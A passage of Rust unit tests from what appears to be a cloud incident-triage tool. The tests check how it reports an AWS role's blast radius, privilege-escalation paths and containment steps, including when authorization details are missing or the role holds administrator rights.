        assert_eq!((check.evidence[0].file.0, check.evidence[0].line), (3, 7));
        assert!(inc
            .containment
            .iter()
            .any(|s| s.action.starts_with("Check what role shop-web-role could have made")));
        // Without the credential used elsewhere, the role's paths alone decide nothing.
        let found = incidents(&in_account(chain()[..2].to_vec()), &context);
        assert!(!found[0]
            .escalation
            .reasons
            .iter()
            .any(|r| r.contains("privilege-escalation paths")));
    }

    #[test]
    fn a_read_only_role_is_described_and_its_rule_does_not_fire() {
        let inventory = details(&["s3:GetObject", "ec2:Describe*"]);
        let context = Context {
            inventory: Some(&inventory),
            ..Default::default()
        };
        let found = incidents(&in_account(chain()), &context);
        let inc = &found[0];
        assert!(
            !inc.escalation.reasons.iter().any(|r| r.contains("credential's role")),
            "{:?}",
            inc.escalation.reasons
        );
        assert!(
            role_check(inc)
                .outcome
                .contains("blast radius data read (s3:GetObject); privilege-escalation paths: none of the known paths"),
            "{}",
            role_check(inc).outcome
        );
        assert!(!inc.containment.iter().any(|s| s.action.starts_with("Check what role")));
    }

    #[test]
    fn the_role_check_says_plainly_when_no_details_were_given_or_the_role_is_not_in_them() {
        let found = incidents(&chain(), &Context::default());
        assert_eq!(
            role_check(&found[0]).outcome,
            "not checked: no authorization details given (aws iam get-account-authorization-details)"
        );
        assert!(found[0].facts.roles.is_none());
        // Details of another account: the role is not there.
        let inventory = details(&["*"]);
        let context = Context {
            inventory: Some(&inventory),
            ..Default::default()
        };
        let mut alerts = chain();
        for a in &mut alerts {
            a.entities.account = Some("444455556666".into());
        }
        let found = incidents(&alerts, &context);
        assert_eq!(
            role_check(&found[0]).outcome,
            "shop-web-role (account 444455556666): not in the authorization details given"
        );
        assert!(
            !found[0]
                .escalation
                .reasons
                .iter()
                .any(|r| r.contains("credential's role")),
            "{:?}",
            found[0].escalation.reasons
        );
    }

    #[test]
    fn an_admin_role_is_named_as_such() {
        let inventory = details(&["*"]);
        let context = Context {
            inventory: Some(&inventory),
            ..Default::default()
        };
        let found = incidents(&in_account(chain()), &context);
        assert!(found[0].escalation.reasons.iter().any(|r| r
            == "the credential's role shop-web-role is an administrator (Action * on Resource *) and was used away from its workload"));
        assert!(role_check(&found[0])
            .outcome
            .contains("blast radius admin (Action * on Resource *); privilege-escalation paths: every path (the role is an administrator)"));
    }
}
